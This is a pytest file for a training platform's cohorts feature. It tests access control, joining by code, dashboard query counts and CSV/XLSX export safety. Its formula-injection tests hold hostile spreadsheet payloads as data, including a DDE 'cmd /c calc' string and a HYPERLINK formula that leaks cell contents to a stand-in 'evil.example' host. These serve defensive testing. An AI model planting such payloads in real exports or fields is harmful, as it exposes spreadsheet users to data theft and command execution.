"""Cohorts: who sees them, joining by code, the dashboard's figures and its exports."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
import time_machine
from sqlalchemy import event, select

from app.cohorts import dashboard, service
from app.cohorts.exports import neutralise
from app.extensions import db
from app.models import (
    Cohort,
    CohortMember,
    ModuleProgress,
    Municipality,
    MunicipalRole,
    SiteRole,
    User,
)
from app.models.base import utcnow
from tests.helpers import PASSWORD, csrf_token, login, make_municipality, make_user, soup, text_of


def make_cohort(app, trainer_id, name="South Asia hub", modules=("demo/intro",)) -> int:
    with app.app_context():
        cohort = service.create_cohort(
            db.session.get(User, trainer_id), name=name, module_keys=modules
        )
        db.session.commit()
        return cohort.id


@pytest.fixture
def trainer(app):
    user_id = make_user(app, "trainer@example.org", name="Tara Trainer", role=SiteRole.TRAINER)
    client = app.test_client()
    login(client, "trainer@example.org")
    client.user_id = user_id
    return client


def join_code(app, cohort_id):
    with app.app_context():
        return db.session.get(Cohort, cohort_id).join_code


def test_trainer_creates_a_cohort_with_modules(app, trainer):
    response = trainer.post(
        "/cohorts/new",
        data={
            "csrf_token": csrf_token(trainer, "/cohorts/new"),
            "name": "Colombo workshop",
            "language": "si",
            "module_keys": ["demo/intro"],
            "description": "",
        },
    )
    assert response.status_code == 302
    with app.app_context():
        cohort = db.session.execute(select(Cohort)).scalar_one()
        assert (cohort.name, cohort.language, cohort.module_keys) == (
            "Colombo workshop",
            "si",
            ["demo/intro"],
        )
        assert len(cohort.join_code) == 8


def test_another_trainers_cohort_answers_404_and_members_get_403(app, trainer):
    cohort_id = make_cohort(app, trainer.user_id)
    make_user(app, "other.trainer@example.org", role=SiteRole.TRAINER)
    other = app.test_client()
    login(other, "other.trainer@example.org")
    for url in (
        f"/cohorts/{cohort_id}",
        f"/cohorts/{cohort_id}/edit",
        f"/cohorts/{cohort_id}/export.csv",
        f"/cohorts/{cohort_id}/participants/1",
    ):
        assert other.get(url).status_code == 404, url
    assert "South Asia hub" not in text_of(other.get("/cohorts"))
    make_user(app, "member@example.org")
    member = app.test_client()
    login(member, "member@example.org")
    assert member.get(f"/cohorts/{cohort_id}").status_code == 403
    admin_id = make_user(app, "admin@example.org", role=SiteRole.ADMIN)
    assert admin_id
    admin = app.test_client()
    login(admin, "admin@example.org")
    assert admin.get(f"/cohorts/{cohort_id}").status_code == 200


def test_a_new_person_joins_by_link_with_an_account_and_municipality(app, trainer):
    cohort_id = make_cohort(app, trainer.user_id)
    city = make_municipality(app, "Malé", "MV")
    code = join_code(app, cohort_id)
    visitor = app.test_client()
    url = f"/join/{code}"
    response = visitor.post(
        url,
        data={
            "csrf_token": csrf_token(visitor, url),
            "email": "aisha@example.org",
            "name": "Aisha Mohamed",
            "locale": "dv",
            "password": PASSWORD,
            "confirm": PASSWORD,
            "municipality": str(city),
        },
    )
    assert response.status_code == 302
    with app.app_context():
        member = db.session.execute(select(CohortMember)).scalar_one()
        user = db.session.get(User, member.user_id)
        assert (user.email, member.municipality_id) == ("aisha@example.org", city)
        assert user.memberships == []  # joining a cohort grants nothing in a workspace
    assert visitor.get("/account").status_code == 200


def test_a_signed_in_person_joins_by_typing_the_code(app, trainer):
    cohort_id = make_cohort(app, trainer.user_id)
    code = join_code(app, cohort_id)
    make_user(app, "member@example.org")
    member = app.test_client()
    login(member, "member@example.org")
    typed = member.post(
        "/join",
        data={
            "csrf_token": csrf_token(member, "/join"),
            "code": code.lower()[:4] + "-" + code.lower()[4:],
        },
    )
    assert typed.headers["Location"] == f"/join/{code}"
    member.post(
        f"/join/{code}",
        data={"csrf_token": csrf_token(member, f"/join/{code}"), "municipality": ""},
    )
    with app.app_context():
        assert db.session.execute(select(CohortMember)).scalar_one() is not None


def test_closed_or_expired_cohorts_cannot_be_joined(app, trainer):
    cohort_id = make_cohort(app, trainer.user_id)
    code = join_code(app, cohort_id)
    with time_machine.travel(utcnow() + timedelta(days=61), tick=False):
        assert app.test_client().get(f"/join/{code}").status_code == 404
    trainer.post(
        f"/cohorts/{cohort_id}/close",
        data={"csrf_token": csrf_token(trainer, f"/cohorts/{cohort_id}")},
    )
    assert app.test_client().get(f"/join/{code}").status_code == 404
    assert app.test_client().get("/join/NOSUCHCO").status_code == 404


def test_trainer_removes_a_member(app, trainer):
    cohort_id = make_cohort(app, trainer.user_id)
    member_id = make_user(app, "member@example.org")
    with app.app_context():
        service.join(db.session.get(Cohort, cohort_id), db.session.get(User, member_id), None)
        db.session.commit()
    url = f"/cohorts/{cohort_id}"
    trainer.post(f"{url}/members/{member_id}/remove", data={"csrf_token": csrf_token(trainer, url)})
    with app.app_context():
        assert db.session.execute(select(CohortMember)).first() is None


def populate(app, cohort_id, people: int, city_ids, start=0):
    """Members with progress, without going through HTTP (fast enough for 1,000)."""
    with app.app_context():
        cohort = db.session.get(Cohort, cohort_id)
        users = [
            User(email=f"p{n}@example.org", name=f"Participant {n:04d}", password_hash="x")
            for n in range(start, start + people)
        ]
        db.session.add_all(users)
        db.session.flush()
        for n, user in enumerate(users):
            db.session.add(
                CohortMember(
                    cohort_id=cohort.id,
                    user_id=user.id,
                    municipality_id=city_ids[n % len(city_ids)],
                )
            )
            if n % 2 == 0:
                db.session.add(
                    ModuleProgress(
                        user_id=user.id,
                        module_key="demo/intro",
                        steps_seen=2,
                        quiz_passed=True,
                        best_score=100 - n % 40,
                        latest_score=90,
                        completed_at=utcnow() if n % 4 == 0 else None,
                    )
                )
        db.session.commit()


def count_queries(app, build):
    with app.app_context():
        statements = []
        listener = lambda *args: statements.append(args[2])  # noqa: E731
        event.listen(db.engine, "before_cursor_execute", listener)
        try:
            cohort = db.session.get(Cohort, 1)
            statements.clear()
            board = build(cohort)
        finally:
            event.remove(db.engine, "before_cursor_execute", listener)
        return len(statements), board


def test_dashboard_query_count_does_not_grow_with_participants(app, trainer):
    cities = [make_municipality(app, name) for name in ("Colombo", "Dhaka", "Delhi")]
    cohort_id = make_cohort(app, trainer.user_id)
    populate(app, cohort_id, 10, cities)
    small, _ = count_queries(app, dashboard.build)
    populate(app, cohort_id, 1000, cities, start=10)
    large, board = count_queries(app, dashboard.build)
    print(f"\ndashboard queries: {small} for 10 participants, {large} for 1,010")
    assert large == small <= 8
    assert len(board.participants) == 1010
    rollup = board.module_rollups[0]
    assert rollup.completed == len([n for n in range(10) if n % 4 == 0]) + 250


def test_dashboard_page_and_exports_show_the_same_figures(app, trainer):
    city = make_municipality(app, '=HYPERLINK("http://evil")', "LK")
    cohort_id = make_cohort(app, trainer.user_id)
    populate(app, cohort_id, 4, [city])
    page = soup(trainer.get(f"/cohorts/{cohort_id}"))
    rows = page.select("table.matrix tbody tr")
    assert len(rows) == 4
    exported = trainer.get(f"/cohorts/{cohort_id}/export.csv?table=matrix")
    assert exported.headers["Content-Disposition"].startswith("attachment")
    table = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"))))
    assert [row[0] for row in table[1:]] == [r.th.get_text(strip=True) for r in rows]
    assert all(row[1].startswith("'=HYPERLINK") for row in table[1:])
    workbook = openpyxl.load_workbook(
        io.BytesIO(trainer.get(f"/cohorts/{cohort_id}/export.xlsx").data)
    )
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [c for c in cells if c.data_type == "f"]
    assert workbook.worksheets[0].cell(row=2, column=2).value.startswith("'=")


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1",
        "\0x",
        "  =cmd|' /c calc'!A1",
        "＝1+1",
        "\n=1",
    ],
)
def test_formula_starts_are_neutralised(value):
    assert neutralise(value).startswith("'")


@pytest.mark.parametrize("value", ["Colombo", "Dhaka 2026", "", 42, -3, None])
def test_ordinary_values_are_left_alone(value):
    assert neutralise(value) == value


def test_strategy_contents_reach_trainers_only_when_shared(app, trainer):
    city = make_municipality(app, "Kolkata", "IN")
    cohort_id = make_cohort(app, trainer.user_id)
    coordinator_id = make_user(
        app, "coord@example.org", municipality_id=city, municipal_role=MunicipalRole.COORDINATOR
    )
    with app.app_context():
        service.join(db.session.get(Cohort, cohort_id), db.session.get(User, coordinator_id), city)
        db.session.commit()
    url = f"/cohorts/{cohort_id}/cities/{city}/strategy"
    assert trainer.get(url).status_code == 404
    coordinator = app.test_client()
    login(coordinator, "coord@example.org")
    overview = f"/cities/{city}/strategy"
    coordinator.post(
        f"{overview}/share",
        data={
            "csrf_token": csrf_token(coordinator, overview),
            "cohort": str(cohort_id),
            "shared": "y",
        },
    )
    assert trainer.get(url).status_code == 200
    coordinator.post(
        f"{overview}/share",
        data={"csrf_token": csrf_token(coordinator, overview), "cohort": str(cohort_id)},
    )
    assert trainer.get(url).status_code == 404


def test_claiming_a_city_on_joining_does_not_offer_the_cohort_to_its_coordinator(app, trainer):
    city = make_municipality(app, "Kolkata", "IN")
    cohort_id = make_cohort(app, trainer.user_id)
    outsider_id = make_user(app, "outsider@example.org")  # belongs to no municipality
    make_user(
        app, "coord@example.org", municipality_id=city, municipal_role=MunicipalRole.COORDINATOR
    )
    with app.app_context():
        service.join(db.session.get(Cohort, cohort_id), db.session.get(User, outsider_id), city)
        db.session.commit()
        assert service.cohorts_of_municipality(city) == []
    coordinator = app.test_client()
    login(coordinator, "coord@example.org")
    overview = f"/cities/{city}/strategy"
    refused = coordinator.post(
        f"{overview}/share",
        data={
            "csrf_token": csrf_token(coordinator, overview),
            "cohort": str(cohort_id),
            "shared": "y",
        },
    )
    assert refused.status_code == 404
    assert trainer.get(f"/cohorts/{cohort_id}/cities/{city}/strategy").status_code == 404


def test_last_activity_is_shown_and_sorts(app, trainer):
    city = make_municipality(app)
    cohort_id = make_cohort(app, trainer.user_id)
    populate(app, cohort_id, 4, [city])
    page = soup(trainer.get(f"/cohorts/{cohort_id}?sort=activity"))
    activity = [
        row.find_all("td")[-1].get_text(strip=True) for row in page.select("table.matrix tbody tr")
    ]
    assert activity[:2] != ["—", "—"]  # participants with progress come first
    assert activity[-1] == "—"


# ---------------------------------------------------------------- T-EXP-1 and T-EXP-2

FORMULA_CORPUS = [
    "=1+1",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1",
    "\n=1",
    "\t=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=cmd|' /c calc'!A1",
    "\uff1d1+1",
    "\uff0b1",
    "  =1+1",
    " @SUM(A1)",
    '"quoted", with, commas',
    "line\r\nbreak",
    "Kandy",
    "\x01control\x1f",
    "\x01=1+1",
]
DANGEROUS_STARTS = set("=+-@\t\r\n\0") | {"\uff1d", "\uff0b", "\uff0d", "\uff20"}


def unsafe_cells(cells) -> list[str]:
    """Text a spreadsheet could run: a formula start (after any spaces) without the '."""
    return [
        cell
        for cell in cells
        if isinstance(cell, str)
        and (cell[:1] in DANGEROUS_STARTS or cell.lstrip(" ")[:1] in DANGEROUS_STARTS)
        and not cell.startswith("'")
    ]


def test_exports_neutralise_every_formula_and_round_trip(app, trainer):
    """T-EXP-1 and T-EXP-2: every participant name and municipality name (the text people
    type that reaches the dashboard exports) is set to a value of a formula-injection corpus;
    the three CSV tables and the XLSX workbook are downloaded and parsed. CSV: no cell starts
    (after spaces) with = + - @ TAB CR LF NUL or their full-width forms without the ' prefix,
    and each value comes back exactly through RFC 4180 quoting. NUL cannot be stored in
    PostgreSQL text, so it goes through the exporter directly. XLSX: no formula cell, every
    text cell of type 's'; a control character in a name (which XLSX cannot hold) is dropped
    instead of failing the whole export."""
    from app.cohorts.exports import to_csv

    cohort_id = make_cohort(app, trainer.user_id)
    with app.app_context():
        cohort = db.session.get(Cohort, cohort_id)
        for number, value in enumerate(FORMULA_CORPUS):
            city = Municipality(name=value, country="LK", region="South Asia")
            person = User(email=f"f{number}@example.org", name=value, password_hash="x")
            db.session.add_all([city, person])
            db.session.flush()
            db.session.add(
                CohortMember(cohort_id=cohort.id, user_id=person.id, municipality_id=city.id)
            )
        db.session.commit()
    cells, tables = [], {}
    for table in ("matrix", "cities", "modules"):
        response = trainer.get(f"/cohorts/{cohort_id}/export.csv?table={table}")
        assert response.status_code == 200
        text = response.data.decode("utf-8-sig")
        tables[table] = list(csv.reader(io.StringIO(text, newline="")))
        cells += [cell for row in tables[table] for cell in row]
    direct = next(csv.reader(io.StringIO(to_csv([["\0=1+1", "\0"]]).decode("utf-8-sig"))))
    cells += direct
    names = {row[0] for row in tables["matrix"][1:]} | {row[0] for row in tables["cities"][1:]}
    round_trips = all(
        value in names or "'" + value in names for value in FORMULA_CORPUS
    ) and direct == ["'\0=1+1", "'\0"]
    unsafe = unsafe_cells(cells)
    print(
        f"\nT-EXP-1: {len(cells)} cells exported ({len(FORMULA_CORPUS)} corpus values in "
        f"names of people and municipalities, 3 CSV tables); {len(unsafe)} cells whose first "
        f"character is in = + - @ \\t \\r \\0 without the ' prefix; RFC 4180 quoting "
        f"round-trips: {round_trips}"
    )
    assert unsafe == [] and round_trips

    workbook = openpyxl.load_workbook(
        io.BytesIO(trainer.get(f"/cohorts/{cohort_id}/export.xlsx").data)
    )
    book_cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    formulas = [c for c in book_cells if c.data_type == "f"]
    texts = [c for c in book_cells if isinstance(c.value, str)]
    print(
        f"T-EXP-2: {len(book_cells)} XLSX cells, {len(texts)} text cells, all of type "
        f"'s': {all(c.data_type == 's' for c in texts)}; {len(formulas)} formula cells; "
        f"{len(unsafe_cells(c.value for c in texts))} unprefixed formula starts"
    )
    assert formulas == [] and all(c.data_type == "s" for c in texts)
    assert unsafe_cells(c.value for c in texts) == []
